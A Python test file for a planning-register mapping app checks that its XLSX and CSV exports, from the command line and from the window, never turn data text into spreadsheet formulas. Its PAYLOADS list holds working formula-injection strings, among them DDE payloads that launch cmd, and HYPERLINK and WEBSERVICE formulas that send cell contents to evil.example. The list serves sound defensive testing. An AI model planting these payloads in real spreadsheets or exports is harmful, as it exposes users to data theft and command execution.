"""No text from a data file becomes a formula in a spreadsheet or CSV the app
writes: `register export` (XLSX and CSV), `export --out x.csv`, and the
window's 导出台账 and 导出数据. Generated hostile text (formula prefixes, DDE
payloads, blanks and quotes before them, control characters) goes into the
data; every XLSX cell the app writes is checked with openpyxl (never a
formula, text as a string, numbers as numbers) and every CSV field is read
back (text quoted, a formula character first only behind OWASP's quote,
numbers unquoted), and the app reads its own CSV back with the same text."""
from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
import tempfile
import zipfile
from pathlib import Path

import geopandas as gpd
import pandas as pd
import shapely
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from xixia_map.cli.main import main
from xixia_map.data.register.store import create_register

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+2\";=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://evil.example/"&A1)',
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\n=1+1",
    "'=1+1",
    "''+1",
    "=",
    "-",
    "-5",
    "+3.25",
    "@",
]
FORMULA_CHARS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[-+]?(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?")
XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")

# No NUL: GDAL keeps text as C strings, so a NUL ends the text in any GeoPackage (not ours to change).
characters = st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00")
starts = st.sampled_from(["=", "+", "-", "@", "\t", "\r", " =", "  +", "\u3000=", "'=", "''-", "\t@", "\n-", "=-"])
hostile_text = st.one_of(
    st.sampled_from(PAYLOADS),
    st.builds(lambda start, rest: start + rest, starts, st.text(characters, max_size=30)),
    st.text(characters, min_size=1, max_size=30),
)
# 万元 with fen: Excel keeps 15 significant digits, so amounts as planners write them.
numbers = st.integers(-10**13, 10**13).map(lambda n: n / 100)
HYPOTHESIS = settings(max_examples=25, deadline=None,
                      suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])


# -- what a safe file looks like (the test's own reading of OWASP, not the app's code) --------------

def starts_like_formula(field: str) -> bool:
    if field.startswith(("\t", "\r")):
        return True
    stripped = field.lstrip()
    return stripped.startswith(FORMULA_CHARS[:4]) and not (PLAIN_NUMBER.fullmatch(stripped) or stripped == "-")


def csv_rows(path: Path) -> list[list]:
    """The CSV's rows, read with QUOTE_NONNUMERIC: an unquoted field that is not a
    number fails here, so every text field was quoted and every number was not."""
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 as Excel recognises it
    reader = csv.reader(io.StringIO(raw[3:].decode("utf-8"), newline=""), quoting=csv.QUOTE_NONNUMERIC)
    return list(reader)


def check_csv_field(field, original: str | None = None) -> None:
    if isinstance(field, float):
        return
    assert not starts_like_formula(field), repr(field)
    if original is not None:
        assert field in (original, "'" + original), (field, original)
        if field == original:
            assert not starts_like_formula(original), repr(original)


def check_xlsx(path: Path) -> list[list]:
    """Every cell: never a formula; text a string. Returns the values, row by row."""
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        for name in sheets:
            xml = archive.read(name).decode("utf-8")
            assert "<f>" not in xml and "<f " not in xml, name  # no formula element at all
    book = load_workbook(path)
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (cell.coordinate, cell.value)
            values.append([cell.value for cell in row])
    return values


def in_xlsx(text: str) -> str:
    return XML_ILLEGAL.sub("\ufffd", text)  # XML cannot hold these; they show as �


# -- a register holding hostile text ----------------------------------------------------------------

def hostile_register(path: Path, texts: list[str], amounts: list[float]) -> None:
    rows = []
    for i, (text, amount) in enumerate(zip(texts, amounts)):
        rows.append(dict(pid=f"P{i + 1:05d}", name=f"{text}#{i}", builder=text, township="回车镇", category=text,
                         total=amount, completed=-abs(amount), status="在建",
                         extra=json.dumps({text + f"#{i}": text, "备注": text}, ensure_ascii=False)))
    frame = gpd.GeoDataFrame(rows, geometry=[shapely.Point(111.48, 33.3)] * len(rows), crs=4326)
    create_register(path, frame)


def check_register_xlsx(path: Path, texts: list[str], amounts: list[float]) -> None:
    rows = check_xlsx(path)
    header = rows[0]
    for i, (text, amount) in enumerate(zip(texts, amounts)):
        row = dict(zip(header, rows[i + 1]))
        assert row["项目名称"] == in_xlsx(f"{text}#{i}")
        assert row["建设单位"] == row["项目类型"] == row["备注"] == in_xlsx(text)
        assert row[in_xlsx(text + f"#{i}")] == in_xlsx(text)  # a hostile header too
        assert row["总投资（万元）"] == amount and row["完成投资（万元）"] == -abs(amount)


def check_register_csv(path: Path, texts: list[str], amounts: list[float]) -> None:
    rows = csv_rows(path)
    header = rows[0]
    for field in header:
        check_csv_field(field)
    for i, (text, amount) in enumerate(zip(texts, amounts)):
        row = rows[i + 1]
        for field in row:
            check_csv_field(field)
        named = dict(zip(header, row))
        check_csv_field(named["建设单位"], text)
        check_csv_field(named["项目名称"], f"{text}#{i}")
        assert named["总投资（万元）"] == amount and named["完成投资（万元）"] == -abs(amount)  # numbers, unquoted


@HYPOTHESIS
@given(st.lists(st.tuples(hostile_text, numbers), min_size=1, max_size=6))
def test_register_export_writes_no_formula(rows):
    """`xixia-map register export --out x.xlsx|x.csv`, and the CSV imported back."""
    from xixia_map.data.register.ledger import import_ledger

    texts, amounts = [r[0] for r in rows], [r[1] for r in rows]
    with tempfile.TemporaryDirectory() as folder:
        folder = Path(folder)
        hostile_register(folder / "库.gpkg", texts, amounts)
        assert main(["register", "export", str(folder / "库.gpkg"), "--out", str(folder / "台账.xlsx")]) == 0
        check_register_xlsx(folder / "台账.xlsx", texts, amounts)
        assert main(["register", "export", str(folder / "库.gpkg"), "--out", str(folder / "台账.csv")]) == 0
        check_register_csv(folder / "台账.csv", texts, amounts)
        back = import_ledger(folder / "台账.csv").frame  # the app reads its own CSV with the same text
        builders = [None if pd.isna(v) else v for v in back["builder"]]  # pandas 3 keeps a blank as NaN
        assert builders == [t.strip() or None for t in texts]
        assert [json.loads(e)["备注"] for e in back["extra"]] == [t if t.strip() else None for t in texts]


def hostile_geojson(path: Path, texts: list[str], amounts: list[float]) -> None:
    features = [{"type": "Feature", "properties": {"id": str(i), "name": text, text: text, "amount": amount},
                 "geometry": {"type": "Point", "coordinates": [111.40 + i * 0.001, 33.30]}}
                for i, (text, amount) in enumerate(zip(texts, amounts))]
    path.write_text(json.dumps({"type": "FeatureCollection", "features": features}, ensure_ascii=False),
                    encoding="utf-8")


def check_data_csv(path: Path, texts: list[str], amounts: list[float]) -> None:
    rows = csv_rows(path)
    header = rows[0]
    for field in header:
        check_csv_field(field)
    named = [dict(zip(header, row)) for row in rows[1:]]
    assert len(named) == len(texts)
    for row in named:
        for field in row.values():
            check_csv_field(field)
    for row, text, amount in zip(named, texts, amounts):
        check_csv_field(row["name"], text)
        assert row["amount"] == amount


@HYPOTHESIS
@given(st.lists(st.tuples(hostile_text, numbers), min_size=1, max_size=6, unique_by=lambda r: r[0].lower()))
def test_data_export_csv_writes_no_formula(rows):
    """`xixia-map export --out x.csv --add-layer hostile.geojson`, WKT and lon/lat."""
    from xixia_map.data.user_layers import layer_from_file

    texts, amounts = [r[0] for r in rows], [r[1] for r in rows]
    if any(t.lower() in ("id", "name", "amount", "layer", "wkt", "lon", "lat") or not t.strip() for t in texts):
        return  # a property named like another would be a different table, not what is tested
    with tempfile.TemporaryDirectory() as folder:
        folder = Path(folder)
        source = folder / "hostile.geojson"
        hostile_geojson(source, texts, amounts)
        for geometry in ("wkt", "lonlat"):
            out = folder / f"out_{geometry}.csv"
            assert main(["export", "--out", str(out), "--add-layer", str(source), "--layers", "user_hostile",
                         "--csv-geometry", geometry]) == 0
            rows_written = [r for r in csv_rows(out)[1:]]
            header = csv_rows(out)[0]
            mine = [dict(zip(header, r)) for r in rows_written if dict(zip(header, r))["layer"] == "user_hostile"]
            assert len(mine) == len(texts)
            check_data_csv(out, texts, amounts)
        back = layer_from_file(folder / "out_lonlat.csv")  # read back by the app: the same text
        if not all(PLAIN_NUMBER.fullmatch(t.strip()) for t in texts):  # else the column reads as numbers
            assert list(back.frame["name"]) == texts


def test_the_real_cli_commands_write_no_formula(tmp_path):
    """The entry point itself, as a planner's script runs it, with every payload."""
    texts, amounts = PAYLOADS, [-(i + 0.5) * 1000 for i in range(len(PAYLOADS))]
    hostile_register(tmp_path / "库.gpkg", texts, amounts)
    hostile_geojson(tmp_path / "hostile.geojson", texts, amounts)
    commands = [["register", "export", str(tmp_path / "库.gpkg"), "--out", str(tmp_path / "台账.xlsx")],
                ["register", "export", str(tmp_path / "库.gpkg"), "--out", str(tmp_path / "台账.csv")],
                ["export", "--out", str(tmp_path / "数据.csv"), "--add-layer", str(tmp_path / "hostile.geojson"),
                 "--layers", "user_hostile"]]
    for command in commands:
        proc = subprocess.run([sys.executable, "-m", "xixia_map", *command], capture_output=True, text=True,
                              timeout=300)
        assert proc.returncode == 0 and "Traceback" not in proc.stderr, proc.stderr
    check_register_xlsx(tmp_path / "台账.xlsx", texts, amounts)
    check_register_csv(tmp_path / "台账.csv", texts, amounts)
    check_data_csv(tmp_path / "数据.csv", texts, amounts)
    # The payloads the issue found live (9 formula cells of 6 payloads) are all strings now.
    book = load_workbook(tmp_path / "台账.xlsx")
    cells = {c.value: c for row in book.active.iter_rows() for c in row if isinstance(c.value, str)}
    for payload in ('=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")', "=cmd|' /C calc'!A0", "+1+1"):
        assert cells[payload].data_type == "s" and cells[payload].quotePrefix


def test_numbers_stay_numbers_and_text_is_kept():
    """The writer itself: numeric columns (negative ones too) unquoted and unguarded,
    text that merely looks like a number or a dash left as it is."""
    from xixia_map.data.spreadsheet_safe import guard, write_csv, write_xlsx

    table = pd.DataFrame({"值": [-1.5, 2.0, None], "整数": [-3, 0, 7], "文字": ["-5", "-", "=1+1"]})
    with tempfile.TemporaryDirectory() as folder:
        write_csv(table, Path(folder) / "t.csv")
        rows = csv_rows(Path(folder) / "t.csv")
        assert rows[1] == [-1.5, -3.0, "-5"] and rows[2] == [2.0, 0.0, "-"] and rows[3] == ["", 7.0, "'=1+1"]
        write_xlsx(table, Path(folder) / "t.xlsx")
        values = check_xlsx(Path(folder) / "t.xlsx")
        assert values[1] == [-1.5, -3, "-5"] and values[3] == [None, 7, "=1+1"]
    assert [guard(t) for t in ("'=x", "''+x", "'x", "x=")] == ["''=x", "'''+x", "'x", "x="]


@HYPOTHESIS
@given(st.text(characters, max_size=20))
def test_the_guard_is_undone_exactly(text):
    from xixia_map.data.spreadsheet_safe import guard, unguard

    assert unguard(guard(text)) == text
    assert not starts_like_formula(guard(text))


# -- the window -------------------------------------------------------------------------------------



def test_the_window_exports_write_no_formula(qtbot, window, tmp_path):
    """导出台账 (XLSX and CSV) and 导出数据 (CSV, through the dialog's OK button)."""
    from PySide6.QtWidgets import QDialog

    from modal_click import press_when_shown
    from xixia_map.ui.data_export_dialog import ask_data_export
    from windows import open_and_wait

    texts, amounts = PAYLOADS, [-(i + 0.25) * 10 for i in range(len(PAYLOADS))]
    hostile_register(tmp_path / "库.gpkg", texts, amounts)
    assert window.register.open(tmp_path / "库.gpkg")
    assert window.register.export_ledger(tmp_path / "台账.xlsx")
    check_register_xlsx(tmp_path / "台账.xlsx", texts, amounts)
    assert window.register.export_ledger(tmp_path / "台账.csv")
    check_register_csv(tmp_path / "台账.csv", texts, amounts)

    hostile_geojson(tmp_path / "hostile.geojson", texts, amounts)
    layer_id = open_and_wait(qtbot, window, tmp_path / "hostile.geojson")
    for layer in window.layers:
        layer.visible = layer.id == layer_id
    pressed = press_when_shown(qtbot, QDialog, lambda d: d.buttons.button(d.buttons.StandardButton.Ok))
    out = ask_data_export(window, window.layers, None, path=tmp_path / "数据.csv")
    assert pressed and out == tmp_path / "数据.csv"
    check_data_csv(out, texts, amounts)
    assert not window.dialogs  # no error shown
